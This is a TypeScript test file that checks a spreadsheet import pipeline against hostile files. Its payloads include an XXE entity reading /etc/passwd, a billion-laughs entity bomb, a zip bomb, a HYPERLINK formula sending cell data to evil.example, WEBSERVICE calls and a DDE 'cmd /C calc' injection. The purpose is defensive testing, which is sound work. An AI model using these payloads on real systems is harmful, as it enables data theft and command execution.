/**
 * Hostile and broken files through the public import API (previewFile + commitFiles) on a real
 * workspace: each gives a correct import or a typed error the UI explains in Vietnamese and English,
 * naming the file (and sheet/row/column where it can); a failed import leaves every table unchanged.
 * The heavy ones (100 MB single-line CSV, huge sheet dimension, a zip bomb, 1,000 columns, enormous
 * geometry) run in a child process whose peak RSS must stay under 1.5 GB.
 */
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EngineServer } from '../../../electron/engine/server';
import { commitFiles } from '../../../electron/engine/import';
import { Workspace } from '../../../electron/engine/workspace/workspace';
import { importVi } from '../../../renderer/src/i18n/import-vi';
import { importEn } from '../../../renderer/src/i18n/import-en';
import { importErrorKey } from '../../../renderer/src/views/import/import-errors';
import type { ErrorCode } from '../../../shared/errors';
import { tempDir } from '../../helpers/workspace';
import { writeCsv } from '../../helpers/files';
import { attemptImport, attemptInChild, type Attempt, type StepError } from './attempt';
import { MODEL_HEADER, col, modelRows, sheetXml, writeRepeated, xlsxBuffer, zipBuffer } from './make-files';

const ROOT = path.resolve(import.meta.dirname, '../../..');
const RSS_LIMIT_MB = 1536;
let t: ReturnType<typeof tempDir>;
let base: string;
let ws: Workspace;
const tried: string[] = [];

/** The base workspace: two units and three models, imported through the real pipeline. */
async function makeBase(dir: string): Promise<string> {
  const file = path.join(dir, 'base.duckdb');
  const w = await Workspace.open({ path: file, dataDir: path.join(dir, 'base-data') });
  const units = writeCsv(dir, 'units.csv', ['Mã ĐVHC,Tên đơn vị', '00001,Phường Một', '00002,Xã Hai']);
  const models = writeCsv(dir, 'models.csv', [
    MODEL_HEADER.join(','),
    ...modelRows('BASE', 3).map((r) => r.join(',')),
  ]);
  await commitFiles(w, [units, models]);
  w.close();
  return file;
}

/** Attempt an import in a child process on a private copy of the base workspace. */
function inChild(file: string): Promise<Attempt> {
  return attemptInChild(ROOT, t.dir, base, file);
}

/** The invariants every attempt keeps, whatever the file. */
function checkAttempt(name: string, a: Attempt, file: string): void {
  tried.push(`${name}: ${a.commit.ok ? 'imported' : a.commit.code}, ${Math.round(a.maxRssMb)} MB`);
  for (const step of [a.preview, a.commit]) {
    if (step.ok) continue;
    expect(step.code, `${name}: ${step.message}`).not.toBe('UNTYPED');
    expect(step.code, `${name}: ${step.message}`).not.toBe('INTERNAL');
    // Explained in both languages, in the words of its own code (not the generic fallback).
    const key = importErrorKey(step.code as ErrorCode);
    expect(key, `${name}: ${step.code} has no words of its own`).not.toBe('UNKNOWN');
    expect((importVi.errors as Record<string, unknown>)[key], `${name}: vi ${key}`).toBeTruthy();
    expect((importEn.errors as Record<string, unknown>)[key], `${name}: en ${key}`).toBeTruthy();
    expect(path.basename(String(step.details?.file ?? '')), `${name}: error names the file`).toBe(
      path.basename(file),
    );
  }
  if (!a.commit.ok) expect(a.changed, `${name}: a failed import changed the workspace`).toBe(false);
  expect(a.maxRssMb, `${name}: peak RSS`).toBeLessThan(RSS_LIMIT_MB);
}

const failed = (a: Attempt): StepError => {
  if (a.commit.ok) throw new Error(`expected the import to fail: ${JSON.stringify(a.commit)}`);
  return a.commit;
};

async function modelNames(prefix: string): Promise<string[]> {
  const r = await ws.rows<{ name: string }>(
    `SELECT name FROM models WHERE model_id LIKE 'MH-${prefix}-%' ORDER BY model_id`,
  );
  return r.map((x) => x.name);
}

beforeAll(async () => {
  t = tempDir('dvk-hostile-');
  base = await makeBase(t.dir);
  const copy = path.join(t.dir, 'w.duckdb');
  fs.copyFileSync(base, copy);
  ws = await Workspace.open({ path: copy, dataDir: path.join(t.dir, 'data') });
}, 120_000);

afterAll(() => {
  ws?.close();
  t?.cleanup();
  console.log(`hostile files tried: ${tried.length}\n  ${tried.join('\n  ')}`);
});

describe('broken workbooks', () => {
  const good = () => xlsxBuffer(sheetXml([MODEL_HEADER, ...modelRows('XL', 50)]));

  it('a truncated XLSX is FILE_UNREADABLE, naming the file', async () => {
    for (const frac of [0.2, 0.5, 0.9, 0.99]) {
      const b = good();
      const file = path.join(t.dir, `cắt ${frac}.xlsx`);
      fs.writeFileSync(file, b.subarray(0, Math.floor(b.length * frac)));
      const a = await attemptImport(ws, file);
      checkAttempt(`truncated-${frac}.xlsx`, a, file);
      expect(failed(a).code).toBe('FILE_UNREADABLE');
    }
  });

  it('a corrupted XLSX (bytes overwritten inside the compressed sheet) fails cleanly', async () => {
    for (const [i, at] of [0.3, 0.45, 0.6].entries()) {
      const b = good();
      const pos = Math.floor(b.length * at);
      b.fill(0x5a, pos, pos + 64);
      const file = path.join(t.dir, `hỏng-${i}.xlsx`);
      fs.writeFileSync(file, b);
      const a = await attemptImport(ws, file);
      checkAttempt(`corrupted-${i}.xlsx`, a, file);
      expect(['FILE_UNREADABLE', 'FILE_FORMAT_UNKNOWN']).toContain(failed(a).code);
    }
  });

  it('random bytes and a zip that is no workbook, named .xlsx, are refused', async () => {
    const random = path.join(t.dir, 'ngẫu nhiên.xlsx');
    fs.writeFileSync(random, Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)));
    const zip = path.join(t.dir, 'nén.xlsx');
    fs.writeFileSync(zip, zipBuffer([{ name: 'readme.txt', data: Buffer.from('xin chào') }]));
    for (const file of [random, zip]) {
      const a = await attemptImport(ws, file);
      checkAttempt(path.basename(file), a, file);
      expect(['FILE_UNREADABLE', 'FILE_FORMAT_UNKNOWN']).toContain(failed(a).code);
    }
  });

  it('XML entities in a workbook are never expanded (no external file read, no entity bomb)', async () => {
    const prolog =
      '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">' +
      '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">' +
      '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>';
    const rows = [MODEL_HEADER, ...modelRows('XXE', 2)];
    const xml = sheetXml(rows, { prolog }).replace('Mô hình XXE 0', '&xxe;').replace('Mô hình XXE 1', '&e;');
    const file = path.join(t.dir, 'thực thể.xlsx');
    fs.writeFileSync(file, xlsxBuffer(xml));
    const a = await attemptImport(ws, file);
    checkAttempt('xxe.xlsx', a, file);
    const names = await modelNames('XXE');
    for (const n of names) {
      expect(n).not.toMatch(/root:/);
      expect(n.length).toBeLessThan(1000);
    }
  });
});

describe('formulas in cells', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    '=1+1',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A2)',
  ];

  it('formula text in a CSV is imported as that text, never evaluated', async () => {
    const lines = [
      MODEL_HEADER.join(','),
      ...hostile.map(
        (h, i) => `MH-FCSV-${i},"${h.replace(/"/g, '""')}",00001,An sinh xã hội,"${h.replace(/"/g, '""')}"`,
      ),
    ];
    const file = writeCsv(t.dir, 'công thức.csv', lines);
    const a = await attemptImport(ws, file);
    checkAttempt('formulas.csv', a, file);
    expect(a.commit.ok).toBe(true);
    expect(await modelNames('FCSV')).toEqual(hostile);
  });

  it('XLSX formula cells give their cached value (or nothing), text cells their text: nothing is evaluated', async () => {
    const rows = [
      MODEL_HEADER,
      [
        'MH-FX-0',
        { formula: 'HYPERLINK("http://evil.example","Bấm")', cached: 'Bấm' },
        '00001',
        'An sinh xã hội',
        'Hội',
      ],
      ['MH-FX-1', { formula: '1+1' }, '00001', 'An sinh xã hội', 'Hội'],
      ['MH-FX-2', '=HYPERLINK("http://evil.example","x")', '00002', 'An sinh xã hội', '=1+1'],
      [
        'MH-FX-3',
        { formula: 'WEBSERVICE("http://evil.example")', cached: '#VALUE!' },
        '00002',
        'An sinh xã hội',
        'Hội',
      ],
    ];
    const file = path.join(t.dir, 'công thức.xlsx');
    fs.writeFileSync(file, xlsxBuffer(sheetXml(rows)));
    const a = await attemptImport(ws, file);
    checkAttempt('formulas.xlsx', a, file);
    expect(a.commit.ok).toBe(true);
    const names = await ws.rows<{ id: string; name: string | null }>(
      `SELECT model_id AS id, name FROM models WHERE model_id LIKE 'MH-FX-%' ORDER BY model_id`,
    );
    const byId = Object.fromEntries(names.map((r) => [r.id, r.name]));
    expect(byId['MH-FX-0']).toBe('Bấm');
    expect(byId['MH-FX-1'] ?? null).not.toBe('2');
    expect(byId['MH-FX-2']).toBe('=HYPERLINK("http://evil.example","x")');
  });

  it('exported pivots neutralise formula-like text (XLSX and CSV)', async () => {
    const server = new EngineServer(ws);
    const spec = {
      kind: 'pivot' as const,
      rows: ['sponsor' as const],
      columns: [],
      values: [{ measure: { type: 'count_models' as const } }],
    };
    const x = await server.run('export.pivot', { spec, format: 'xlsx' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(x.bytes) as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula, `formula in exported cell ${cell.address}`).toBeFalsy();
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    expect(texts.some((s) => s.includes('HYPERLINK'))).toBe(true);
    for (const s of texts) expect(s, 'exported text starts like a formula').not.toMatch(/^[=+\-@\t\r]/);
    const c = await server.run('export.pivot', { spec, format: 'csv' });
    const csv = Buffer.from(c.bytes)
      .toString('utf8')
      .replace(/^\ufeff/, '');
    expect(csv).toContain('HYPERLINK');
    for (const line of csv.split(/\r?\n/))
      for (const field of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
        expect(field.replace(/^"/, ''), 'CSV field starts like a formula').not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('text oddities', () => {
  it('NUL bytes inside a CSV cell are dropped from the imported text', async () => {
    const file = path.join(t.dir, 'nul.csv');
    fs.writeFileSync(
      file,
      Buffer.concat([
        Buffer.from(`${MODEL_HEADER.join(',')}\r\nMH-NUL-0,Tên`),
        Buffer.from([0]),
        Buffer.from(`có NUL,00001,An sinh xã hội,Hội\r\nMH-NUL-1,Bình thường,00002,An sinh xã hội,Hội\r\n`),
      ]),
    );
    const a = await attemptImport(ws, file);
    checkAttempt('nul.csv', a, file);
    expect(a.commit.ok, JSON.stringify(a.commit)).toBe(true);
    expect(await modelNames('NUL')).toEqual(['Têncó NUL', 'Bình thường']);
  });

  it('invalid UTF-8 in a UTF-8 file is read as UTF-8 (bad bytes become U+FFFD), never a crash', async () => {
    const file = path.join(t.dir, 'utf8 hỏng.csv');
    const rows = modelRows('BADU', 20).map((r) => r.join(','));
    fs.writeFileSync(
      file,
      Buffer.concat([
        Buffer.from(`${MODEL_HEADER.join(',')}\nMH-BADU-X,Tên `),
        Buffer.from([0xc3, 0x28, 0xff, 0xed, 0xa0, 0x80]),
        Buffer.from(` lỗi,00001,An sinh xã hội,Hội\n${rows.join('\n')}\n`),
      ]),
    );
    const a = await attemptImport(ws, file);
    checkAttempt('invalid-utf8.csv', a, file);
    expect(a.commit.ok, JSON.stringify(a.commit)).toBe(true);
    const names = await modelNames('BADU');
    expect(names).toHaveLength(21);
    expect(names).toContain('Mô hình BADU 3');
    expect(names.find((n) => n.startsWith('Tên'))).toContain('\ufffd');
  });

  it('mostly invalid UTF-8 (random high bytes) gives an import or a clear error', async () => {
    const file = path.join(t.dir, 'rác.csv');
    const junk = Buffer.from(Array.from({ length: 3000 }, (_, i) => 0x80 + ((i * 37) % 0x7f)));
    fs.writeFileSync(file, Buffer.concat([Buffer.from(`${MODEL_HEADER.join(',')}\nMH-JUNK-0,`), junk]));
    checkAttempt('junk-bytes.csv', await attemptImport(ws, file), file);
  });

  it('a file of only a BOM or only blank lines fails clearly; only a header imports no rows', async () => {
    const cases: [string, Buffer][] = [
      ['chỉ bom.csv', Buffer.from('\ufeff')],
      ['trống.csv', Buffer.from('\r\n\r\n   \r\n')],
    ];
    for (const [name, bytes] of cases) {
      const file = path.join(t.dir, name);
      fs.writeFileSync(file, bytes);
      const a = await attemptImport(ws, file);
      checkAttempt(name, a, file);
      expect(a.commit.ok, name).toBe(false);
    }
    const file = path.join(t.dir, 'chỉ tiêu đề.csv');
    fs.writeFileSync(file, `${MODEL_HEADER.join(',')}\r\n`);
    const a = await attemptImport(ws, file);
    checkAttempt('header-only.csv', a, file);
    if (a.commit.ok) expect(a.commit.rows.reduce((n, r) => n + r.rowsImported, 0)).toBe(0);
  });
});

describe('heavy files (child process, peak RSS < 1.5 GB)', () => {
  it('a 100 MB single-line CSV', async () => {
    const file = path.join(t.dir, 'một dòng.csv');
    await writeRepeated(file, '', 'Mã mô hình,Tên mô hình,', 100 * 1024 * 1024);
    const a = await inChild(file);
    checkAttempt('100mb-single-line.csv', a, file);
    expect(a.commit.ok).toBe(false);
  }, 300_000);

  it('a 100 MB CSV whose second line is one unterminated quoted field', async () => {
    const file = path.join(t.dir, 'ngoặc kép.csv');
    await writeRepeated(file, `${MODEL_HEADER.join(',')}\nMH-Q-0,"`, 'không đóng ngoặc ', 100 * 1024 * 1024);
    const a = await inChild(file);
    checkAttempt('100mb-open-quote.csv', a, file);
  }, 300_000);

  it('an XLSX claiming a huge sheet dimension (A1:XFD1048576) imports its real rows', async () => {
    const file = path.join(t.dir, 'kích thước lớn.xlsx');
    fs.writeFileSync(
      file,
      xlsxBuffer(sheetXml([MODEL_HEADER, ...modelRows('DIM', 10)], { dimension: 'A1:XFD1048576' })),
    );
    const a = await inChild(file);
    checkAttempt('huge-dimension.xlsx', a, file);
    expect(a.commit.ok).toBe(true);
    if (a.commit.ok) expect(a.commit.rows[0]?.rowsImported).toBe(10);
  }, 120_000);

  it('an XLSX with one cell at XFD1048576', async () => {
    const file = path.join(t.dir, 'ô xa.xlsx');
    const far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>xa</t></is></c></row>';
    fs.writeFileSync(file, xlsxBuffer(sheetXml([MODEL_HEADER, ...modelRows('FAR', 5)], { extra: far })));
    const a = await inChild(file);
    checkAttempt('far-cell.xlsx', a, file);
  }, 120_000);

  it('a zip bomb: a sheet that inflates to 1 GB of blank space', async () => {
    const file = path.join(t.dir, 'bom nén.xlsx');
    const [head, tail] = sheetXml([MODEL_HEADER, ...modelRows('BOMB', 3)]).split('<sheetData>');
    fs.writeFileSync(file, xlsxBuffer({ head: `${head}<sheetData>`, pad: 1024 ** 3, tail: tail ?? '' }));
    const a = await inChild(file);
    checkAttempt('zip-bomb.xlsx', a, file);
  }, 300_000);

  it('a 1,000-column sheet (XLSX and CSV) imports its models', async () => {
    const extra = Array.from({ length: 1000 - MODEL_HEADER.length }, (_, i) => `Cột thêm ${i + 1}`);
    const header = [...MODEL_HEADER, ...extra];
    const rows = modelRows('WIDE', 20).map((r) => [...r, ...extra.map((_, j) => String(j))]);
    const xfile = path.join(t.dir, 'nghìn cột.xlsx');
    fs.writeFileSync(xfile, xlsxBuffer(sheetXml([header, ...rows])));
    const cfile = writeCsv(
      t.dir,
      'nghìn cột.csv',
      [header, ...rows].map((r) => r.join(',')),
    );
    for (const file of [xfile, cfile]) {
      const a = await inChild(file);
      checkAttempt(`1000-columns${path.extname(file)}`, a, file);
      expect(a.commit.ok, JSON.stringify(a.commit)).toBe(true);
      if (a.commit.ok) expect(a.commit.rows[0]?.rowsImported).toBe(20);
    }
    expect(col(1000)).toBe('ALL');
  }, 180_000);
});
